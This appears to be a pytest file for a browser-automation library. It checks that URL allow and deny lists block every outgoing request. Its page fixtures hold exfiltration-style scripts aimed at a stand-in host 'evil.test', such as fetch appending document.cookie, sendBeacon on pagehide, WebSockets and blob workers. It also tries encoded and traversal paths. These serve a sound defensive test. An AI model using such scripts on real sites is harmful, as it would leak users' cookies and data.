"""No request leaves for a URL outside the lists, whatever a page does (threat T5)."""

import re
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack, asynccontextmanager, suppress

import attrs
import pytest
import trio

from tabwright import Tabwright
from tabwright.cdp.chromium.arguments import LaunchPlan
from tabwright.cdp.chromium.finding import PREFERENCE, find_browser
from tabwright.cdp.chromium.process import launch
from tabwright.protocol.actions import Click, Press
from tabwright.protocol.errors import BadInput, Effect, TabwrightError
from tabwright.protocol.extraction import ReadOptions
from tabwright.protocol.inspection import OutlineView, TakeOutline
from tabwright.protocol.page_text import RenderOptions
from tabwright.protocol.sessions import FormChoice, Sessions
from tabwright.testing.replica import open_replica
from tabwright.testing.replica.server import ServerResponse, redirect

from .conftest import Web

pytestmark = pytest.mark.chromium

WHOLE = TakeOutline(OutlineView(max_tokens=0))

TRICKS = """
<img src="BASE/img"><iframe src="BASE/frame"></iframe><script src="BASE/script"></script>
<iframe srcdoc="<img src='BASE/srcdoc'>"></iframe><video src="BASE/video"></video>
<iframe src="data:text/html,<meta http-equiv=refresh content='0;url=BASE/refresh'>"></iframe>
<iframe name=in-KEY></iframe>
<form id=form-KEY action="BASE/form" method=post target=in-KEY><input name=a value=b></form>
<script>
  fetch("BASE/fetch?" + document.cookie, {mode: "no-cors"}).catch(() => 0);
  navigator.sendBeacon("BASE/beacon", "x");
  new EventSource("BASE/events");
  new WebSocket("BASE/socket".replace("http", "ws"));
  new Worker("/KEY-worker");
  new SharedWorker("/KEY-shared-worker");
  document.getElementById("form-KEY").submit();
</script>
"""

WAYS = {
    *("img", "frame", "script", "srcdoc", "video", "refresh", "form", "fetch", "beacon"),
    *("events", "socket", "worker", "shared-worker"),
}
"""What a page of `TRICKS` asks for where nobody stops it."""

OUT, IN = "evil.test", "ok.test"

READ_BYTES = 65536


@attrs.frozen(eq=False)
class Names:
    """A web of many host names, all of which resolve to one server."""

    web: Web

    @property
    def rules(self) -> str:
        return f"--host-resolver-rules=MAP *.test 127.0.0.1:{self.web.port}"

    def put_tricks(self) -> None:
        """Add a page that tries every trick on a denied host, then on an allowed one."""
        tried: list[str] = []
        for host in (OUT, IN):
            tried.append(TRICKS.replace("BASE", f"http://{host}").replace("KEY", host))
            for worker in ("worker", "shared-worker"):
                script = f"fetch('http://{host}/{worker}', {{mode: 'no-cors'}})"
                kind = "text/javascript"
                self.web.pages[f"/{host}-{worker}"] = ServerResponse(
                    script.encode(), content_type=kind
                )
        self.web.put("/tricks", "<h1>Tricks</h1>" + "".join(tried))

    def asked(self, host: str) -> set[str]:
        """Return the first path segments requested from a host."""
        paths = (seen.path for seen in self.web.log if seen.host.rstrip(".") == host)
        return {re.split(r"[/?]", path)[1] for path in paths}

    async def until_all_is_tried(self) -> None:
        with trio.fail_after(120):
            while not self.asked(IN) >= WAYS:
                await trio.sleep(0.05)


@pytest.fixture
def names(web: Web) -> Names:
    return Names(web)


async def relayed(source: trio.SocketStream, drain: trio.SocketStream) -> None:
    with suppress(trio.BrokenResourceError, trio.ClosedResourceError):
        while data := await source.receive_some(READ_BYTES):
            await drain.send_all(data)
        await drain.send_eof()


@asynccontextmanager
async def open_proxy(port: int, asked: list[str]) -> AsyncGenerator[str]:
    """Run an HTTP proxy that forwards every request to one local port."""

    async def serve(client: trio.SocketStream) -> None:
        async with client, await trio.open_tcp_stream("127.0.0.1", port) as site:
            head = b""
            while b"\r\n\r\n" not in head:
                piece = await client.receive_some(READ_BYTES)
                if not piece:
                    return
                head += piece
            method, url, _ = head.split(b" ", 2)
            asked.append(url.decode())
            if method == b"CONNECT":
                await client.send_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
            else:
                await site.send_all(re.sub(rb" http://[^/ ]+", b" ", head, count=1))
            async with trio.open_nursery() as both:
                both.start_soon(relayed, client, site)
                both.start_soon(relayed, site, client)

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(trio.serve_tcp, serve, 0)
        yield f"http://127.0.0.1:{listeners[0].socket.getsockname()[1]}"
        nursery.cancel_scope.cancel()


LISTS = {
    "allowed": {"network__allow_urls": [IN]},
    "denied": {"network__deny_urls": [f"*.{OUT}"]},
    "paths": {"network__allow_urls": [f"{IN}/*"], "network__deny_urls": [f"{OUT}/*"]},
}


@pytest.mark.parametrize(
    ("browser", "lists"),
    [
        ("chromium", "allowed"),
        ("headless-shell", "denied"),
        ("headless-shell", "paths"),
        pytest.param("chromium", "denied", marks=pytest.mark.nightly),
        pytest.param("chromium", "paths", marks=pytest.mark.nightly),
        pytest.param("headless-shell", "allowed", marks=pytest.mark.nightly),
    ],
)
async def test_requests_outside_url_lists_are_never_sent(
    browser, lists, names, open_loopback_client
):
    names.put_tricks()
    settings = {
        "browser__path": browser,
        "browser__extra_args": [names.rules],
        **LISTS[lists],
    }
    async with open_loopback_client(**settings) as tabwright:
        await tabwright.session("s").enter("http://ok.test/tricks")
        await names.until_all_is_tried()
        assert "Tricks" in (await tabwright.session("s").inspect(WHOLE)).text
    assert names.asked(OUT) == set()


@pytest.mark.parametrize("tier", [2, 3])
async def test_requests_outside_url_lists_are_never_sent_while_reading(
    tier, names, open_loopback_client
):
    names.put_tricks()
    settings = {"browser__extra_args": [names.rules], "network__allow_urls": [IN]}
    async with open_loopback_client(browser__path="headless-shell", **settings) as tabwright:
        page = await tabwright.read(
            "http://ok.test/tricks", ReadOptions(min_tier=tier, max_tier=tier)
        )
        assert "Tricks" in page.text
    assert "fetch" in names.asked(IN)
    assert names.asked(OUT) == set()


async def test_all_requests_are_sent_without_url_lists(names, open_loopback_client):
    names.put_tricks()
    async with open_loopback_client(browser__extra_args=[names.rules]) as tabwright:
        await tabwright.session("s").enter("http://ok.test/tricks")
        await names.until_all_is_tried()
        with trio.fail_after(120):
            while not names.asked(OUT) >= WAYS:
                await trio.sleep(0.05)


@pytest.mark.parametrize("lists", ["allowed", "paths"])
async def test_url_lists_apply_behind_a_proxy(lists, names, open_loopback_client, monkeypatch):
    monkeypatch.delenv("NO_PROXY")
    names.put_tricks()
    asked: list[str] = []
    async with open_proxy(names.web.port, asked) as proxy:
        settings = {**LISTS[lists], "network__proxy": proxy}
        async with open_loopback_client(browser__path="headless-shell", **settings) as tabwright:
            await tabwright.session("s").enter("http://ok.test/tricks")
            await names.until_all_is_tried()
    assert names.asked(OUT) == set()
    assert not [url for url in asked if url.removeprefix("http://").startswith(OUT)]
    assert "ok.test:80" in asked  # the tunnel of the WebSocket


async def test_url_lists_apply_without_guard_except_to_websockets(names, open_loopback_client):
    names.put_tricks()
    settings = {**LISTS["allowed"], "network__guard": False}
    async with open_loopback_client(browser__extra_args=[names.rules], **settings) as tabwright:
        await tabwright.session("s").enter("http://ok.test/tricks")
        await names.until_all_is_tried()
    assert names.asked(OUT) <= {"socket"}


async def test_url_lists_apply_in_a_connected_browser(names, open_loopback_client):
    names.put_tricks()
    plan = LaunchPlan(
        path=find_browser(PREFERENCE).path, link="websocket", extra_args=(names.rules,)
    )
    async with launch(plan) as chromium:
        settings = {**LISTS["allowed"], "browser__cdp_endpoint": chromium.endpoint}
        async with open_loopback_client(**settings) as tabwright:
            await tabwright.session("s").enter("http://ok.test/tricks")
            await names.until_all_is_tried()
            page = await tabwright.read("http://ok.test/tricks", ReadOptions(min_tier=2))
            assert "Tricks" in page.text
    assert names.asked(OUT) <= {"socket"}


LAST_WORDS = """<h1>Busy</h1><script>
  const send = (way, more) => fetch("http://OUT/" + way, {mode: "no-cors", ...more}).catch(() => 0);
  new Worker("/busy");
  addEventListener("pagehide", () => {
    navigator.sendBeacon("http://OUT/beacon", "x");
    send("keepalive", {keepalive: true});
    new Image().src = "http://OUT/img";
  });
  setInterval(send, 20, "interval");
  fetch("http://ok.test/began", {mode: "no-cors"});
</script>""".replace("OUT", OUT)
"""A page that never ceases to ask, and asks once more at its end."""

WORKER = f"setInterval(() => fetch('http://{OUT}/worker', {{mode: 'no-cors'}}).catch(() => 0), 20)"


@pytest.mark.parametrize("ours", [True, False])
async def test_page_that_closes_sends_nothing_outside_url_lists(ours, names, open_loopback_client):
    names.web.put("/busy-page", LAST_WORDS)
    names.web.pages["/busy"] = ServerResponse(WORKER.encode(), content_type="text/javascript")
    settings = {**LISTS["allowed"], "network__guard": False}
    async with AsyncExitStack() as stack:
        if ours:
            settings["browser__extra_args"] = [names.rules]
        else:
            plan = LaunchPlan(
                path=find_browser(PREFERENCE).path, link="websocket", extra_args=(names.rules,)
            )
            chromium = await stack.enter_async_context(launch(plan))
            settings["browser__cdp_endpoint"] = chromium.endpoint
        async with open_loopback_client(**settings) as tabwright:
            for session in ("a", "b", "c"):
                names.web.log.clear()
                await tabwright.session(session).enter("http://ok.test/busy-page")
                with trio.fail_after(120):
                    while "began" not in names.asked(IN):
                        await trio.sleep(0.05)
                if session != "c":  # which is closed together with the client
                    await tabwright.session(session).close()
                assert names.asked(OUT) == set()
    assert names.asked(OUT) == set()


async def test_removed_frame_and_blob_worker_send_nothing_outside_url_lists(
    names, open_loopback_client
):
    names.web.put("/inner", LAST_WORDS)
    names.web.pages["/busy"] = ServerResponse(WORKER.encode(), content_type="text/javascript")
    names.web.put(
        "/outer",
        f"""<h1>Outer</h1><script>
          const script = "fetch('http://{OUT}/blob', {{mode: 'no-cors'}}).catch(() => 0)";
          new SharedWorker(URL.createObjectURL(new Blob([script])));
          const frame = document.createElement("iframe");
          frame.src = "http://other.test/inner";
          frame.onload = () => setTimeout(() => {{ frame.remove(); fetch("/removed"); }}, 200);
          document.body.append(frame);
        </script>""",
    )
    settings = {**LISTS["denied"], "network__guard": False, "browser__extra_args": [names.rules]}
    async with open_loopback_client(**settings) as tabwright:
        for _ in range(3):
            names.web.log.clear()
            await tabwright.session("s").enter("http://ok.test/outer")
            with trio.fail_after(120):
                while not {"began", "removed"} <= names.asked(IN):
                    await trio.sleep(0.05)
            await trio.sleep(0.5)  # nothing tells that a frame that is gone sends nothing more
            assert names.asked(OUT) == set()


DOORS = {
    "link": '<a href="{url}">Go</a>',
    "window": '<a href="{url}" target=_blank>Go</a>',
    "no opener": '<a href="{url}" target=_blank rel=noopener>Go</a>',
    "form": '<form method=post action="{url}"><input name=a value=b><button>Go</button></form>',
    "script": """<button onclick="location = '{url}'">Go</button>""",
    "fetch": """<button onclick="fetch('{url}', {{method: 'POST'}})">Go</button>""",
}


async def pressed(tabwright: Tabwright, *, by_key: bool = False) -> TabwrightError | None:
    """Activate the last control of the page; return the error, if there is one."""
    outline = await tabwright.session("s").inspect(WHOLE)
    ref = outline.controls[-1].ref
    press = Press("Enter", ref) if by_key else Click(ref)
    try:
        await tabwright.session("s").act(press)
    except TabwrightError as error:
        return error
    return None


@pytest.mark.parametrize(
    "browser", ["headless-shell", pytest.param("chromium", marks=pytest.mark.nightly)]
)
async def test_press_leading_outside_url_lists_sends_nothing(browser, names, open_loopback_client):
    settings = {"browser__path": browser, "browser__extra_args": [names.rules]}
    async with open_loopback_client(**settings, **LISTS["allowed"]) as tabwright:
        for door in DOORS.values():
            for by_key in (False, True):
                names.web.put("/", "<h1>Here</h1>" + door.format(url="http://evil.test/a"))
                await tabwright.session("s").enter("http://ok.test/")
                error = await pressed(tabwright, by_key=by_key)
                assert error is None or (error.kind, error.effect) == ("bad_input", Effect.UNKNOWN)
                assert "# Here" in (await tabwright.session("s").inspect(WHOLE)).text
                tabs = await tabwright.parts.sessions.ask(Sessions.change_tabs, "s")
                assert [tab.url for tab in tabs] == ["http://ok.test/"]
    assert names.asked(OUT) == set()


@pytest.mark.parametrize("door", ["link", "form", "script"])
async def test_press_redirected_outside_url_lists_reports_unknown_effect(
    door, names, open_loopback_client
):
    names.web.pages["/away"] = redirect("http://evil.test/a", status=307)
    async with open_loopback_client(
        browser__extra_args=[names.rules], **LISTS["allowed"]
    ) as tabwright:
        names.web.put("/", DOORS[door].format(url="/away"))
        await tabwright.session("s").enter("http://ok.test/")
        error = await pressed(tabwright)
        assert error is not None
        assert (error.kind, error.effect) == ("bad_input", Effect.UNKNOWN)
        assert "away" in names.asked(IN)
    assert names.asked(OUT) == set()


async def test_navigation_redirected_outside_url_lists_reports_unknown_effect(
    names, open_loopback_client
):
    names.web.put("/", "<h1>Here</h1>")
    names.web.pages["/away"] = redirect("http://evil.test/a")
    async with open_loopback_client(
        browser__extra_args=[names.rules], **LISTS["allowed"]
    ) as tabwright:
        await tabwright.session("s").enter("http://ok.test/")
        for asked in (
            tabwright.session("s").enter("http://ok.test/away"),
            tabwright.read("http://ok.test/away", ReadOptions(min_tier=2)),
        ):
            with pytest.raises(BadInput, match="allow_urls") as caught:
                await asked
            assert caught.value.effect is Effect.UNKNOWN
        with pytest.raises(BadInput) as caught:
            await tabwright.session("s").enter("http://evil.test/")
        assert caught.value.effect is Effect.NONE
        await tabwright.session("s").enter("http://ok.test/")
        assert "# Here" in (await tabwright.session("s").inspect(WHOLE)).text
    assert names.asked(OUT) == set()


async def test_press_followed_by_server_error_never_reports_no_effect(names, open_loopback_client):
    names.web.pages["/broken"] = ServerResponse(status=500)
    async with open_loopback_client(browser__extra_args=[names.rules]) as tabwright:
        for door in ("link", "form"):
            names.web.put("/", DOORS[door].format(url="/broken"))
            await tabwright.session("s").enter("http://ok.test/")
            error = await pressed(tabwright)
            assert error is None or error.effect is not Effect.NONE
            assert "broken" in names.asked(IN)


@pytest.mark.parametrize("tier", [1, 2])
@pytest.mark.parametrize(("action", "hosts"), [("/broken", {IN}), ("http://evil.test/a", set())])
async def test_failed_form_submission_never_reports_no_effect(
    action, hosts, tier, names, open_loopback_client
):
    names.web.pages["/broken"] = ServerResponse(status=500)
    names.web.put("/", DOORS["form"].format(url=action))
    settings = {"browser__extra_args": [names.rules]}
    async with open_loopback_client(**settings, **LISTS["allowed"]) as tabwright:
        ask = tabwright.parts.sessions.ask
        reading = ReadOptions(min_tier=tier, max_tier=tier)
        await ask(Sessions.navigate, "s", "http://ok.test/", reading)
        effect = Effect.DONE
        try:
            await ask(Sessions.submit, "s", FormChoice(), RenderOptions())
        except TabwrightError as error:
            effect = error.effect
    posted = {seen.host for seen in names.web.log if seen.method == "POST"}
    assert posted == hosts
    assert effect is not Effect.NONE or not posted


async def test_denied_paths_are_never_requested(names, open_loopback_client):
    links = ("/private/a", "/a/../private/x", "/%70rivate/x", "//ok.test//private/x", "/open/x")
    body = "".join(f"<iframe src='{link}'></iframe><img src='{link}?i'>" for link in links)
    names.web.put("/", body + "<script>fetch('/private/f'); fetch('/open/f')</script>")
    settings = {"browser__extra_args": [names.rules], "network__deny_urls": ["ok.test/private"]}
    async with open_loopback_client(**settings) as tabwright:
        await tabwright.session("s").enter("http://ok.test/")
        with trio.fail_after(120):
            while not {"/open/x", "/open/x?i", "/open/f"} <= {seen.path for seen in names.web.log}:
                await trio.sleep(0.05)
    assert not [seen.path for seen in names.web.log if "rivate" in seen.path]


async def test_ai_mode_search_requires_its_hosts_to_be_allowed(client_on, tmp_path):
    async with open_replica() as replica:
        lists = {"network__allow_urls": ["*.google.com", "*.gstatic.com"]}
        async with client_on(replica, tmp_path / "profiles", **lists) as tabwright:
            assert (await tabwright.search("Q?", language="en-US")).success
        lists = {"network__deny_urls": ["*.google.com"]}
        async with client_on(replica, tmp_path / "profiles", **lists) as tabwright:
            with pytest.raises(BadInput, match="deny_urls"):
                await tabwright.search("Q?", language="en-US")
